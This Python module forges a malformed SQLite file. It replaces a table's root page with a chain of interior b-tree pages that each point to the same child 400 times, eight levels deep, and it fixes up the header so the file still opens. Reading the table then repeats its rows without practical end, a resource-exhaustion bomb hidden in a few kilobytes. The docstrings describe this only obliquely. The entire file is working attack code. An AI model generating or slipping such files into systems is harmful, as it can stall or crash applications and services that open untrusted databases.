"""Library files whose pages lead back to one another: a few kilobytes whose rows nobody has the time to read."""

import sqlite3
import struct
from contextlib import closing
from pathlib import Path

_SIZE = 4096
_INNER, _LEAF = 5, 13
_CHILDREN = 400
_DEPTH = 8


def make_endless(file: Path, table: str) -> None:
    """Let the table begin with pages that each name the next one 400 times, so that its rows come again and again."""
    with closing(sqlite3.connect(file)) as connection:
        connection.execute("PRAGMA journal_mode=DELETE")
        query = "SELECT rootpage FROM sqlite_master WHERE name = ?"
        root = 1 if table == "sqlite_master" else connection.execute(query, (table,)).fetchone()[0]
    data = bytearray(file.read_bytes())
    start = (root - 1) * _SIZE
    head = 100 if root == 1 else 0  # of the file
    child, added = _first_leaf(data, root), len(data) // _SIZE + 1
    for number in range(added, added + _DEPTH):
        data += _inner_page(child, b"")
        child = number
    data[start : start + _SIZE] = _inner_page(child, bytes(data[start : start + head]))
    struct.pack_into(">L", data, 28, len(data) // _SIZE)
    data[92:96] = data[24:28]  # the number of pages counts for this change
    file.write_bytes(data)


def _first_leaf(data: bytearray, page: int) -> int:
    at = (page - 1) * _SIZE + (100 if page == 1 else 0)
    if data[at] == _LEAF:
        return page
    assert data[at] == _INNER
    (cell,) = struct.unpack_from(">H", data, at + 12)
    return _first_leaf(data, struct.unpack_from(">L", data, (page - 1) * _SIZE + cell)[0])


def _inner_page(child: int, head: bytes) -> bytes:
    page = bytearray(_SIZE)
    page[: len(head)] = head
    at, end = len(head), _SIZE
    for number in range(_CHILDREN):
        cell = struct.pack(">LBB", child, 0x80 | (number + 1) >> 7, (number + 1) & 0x7F)
        end -= len(cell)
        page[end : end + len(cell)] = cell
        struct.pack_into(">H", page, at + 12 + 2 * number, end)
    struct.pack_into(">BHHHBL", page, at, _INNER, 0, _CHILDREN, end, 0, child)
    return bytes(page)
